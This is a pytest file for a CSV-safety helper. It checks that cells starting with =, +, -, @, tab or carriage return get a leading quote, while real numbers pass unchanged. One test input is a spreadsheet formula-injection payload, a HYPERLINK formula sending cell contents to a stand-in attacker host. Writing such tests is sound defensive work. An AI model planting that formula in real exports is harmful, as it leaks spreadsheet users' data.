"""core.csv_safety: text that a spreadsheet would run as a formula is quoted; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from core.csv_safety import SafeWriter, safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("+370 600 00000", "'+370 600 00000"),
        ("-2+3", "'-2+3"),
        ("-3", "'-3"),  # text that looks like a number is still text: only numbers given as numbers pass
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Žalgiris UAB", "Žalgiris UAB"),
        ("a=b", "a=b"),  # only the first character counts
        (" =1+2", " =1+2"),  # a leading space: spreadsheets read it as text
        ("", ""),
        (None, ""),
    ],
)
def test_text_cells_that_would_run_as_a_formula_get_a_leading_quote(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, "-3"),
        (0, "0"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+1"), "10"),  # never the exponent form
        (Decimal("1250.5"), "1250.5"),
        (-0.25, "-0.25"),
        (True, "True"),
    ],
)
def test_numbers_are_written_as_numbers_even_when_negative(value, cell):
    assert safe_cell(value) == cell


def test_the_writer_guards_every_cell_of_every_row():
    buffer = io.StringIO()

    SafeWriter(buffer, lineterminator="\n").writerows([["=1+2", -1, "ok"], [Decimal("-0.50"), "@x", None]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+2", "-1", "ok"], ["-0.50", "'@x", ""]]
    assert safe_row(["+1", 1]) == ["'+1", "1"]
